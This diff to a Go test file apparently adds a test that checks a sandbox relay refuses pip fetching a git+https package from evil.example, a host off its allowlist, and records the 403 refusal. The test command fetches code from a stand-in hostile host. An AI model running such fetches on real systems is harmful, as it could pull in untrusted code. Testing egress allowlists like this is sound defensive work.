@@ -143,3 +143,25 @@ func TestTimeCap(t *testing.T) {
 		t.Errorf("Stats = %+v, want the cut request and the later one refused for the time cap", st)
 	}
 }
+
+// TestVCSRequirementRefused: pip's git+https requirement (git through the
+// relay's proxy environment) for a host off the list fails in the sandbox
+// with the refusal, and the relay names it.
+func TestVCSRequirementRefused(t *testing.T) {
+	s := sb{newSandbox(t)}
+	if res := s.run(t, nil, "command -v git"); res.ExitCode != 0 {
+		t.Skip("no git on the host's /usr")
+	}
+	r, err := Start(context.Background(), s.Sandbox, Policy{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	res := s.run(t, r, "python3 -m pip download --no-cache-dir --no-deps --no-index -d /tmp/d 'pkg @ git+https://evil.example/pkg.git'")
+	st := r.Close()
+	if res.ExitCode == 0 || !strings.Contains(string(res.Stderr), "403") {
+		t.Errorf("pip with a git+https requirement off the list: exit %d, want a failure showing the 403:\n%s", res.ExitCode, output(res))
+	}
+	if want := (Refusal{"evil.example", 443, "not on the allowlist"}); len(st.Refusals) == 0 || st.Refusals[0] != want {
+		t.Errorf("Stats.Refusals = %v, want %v", st.Refusals, want)
+	}
+}
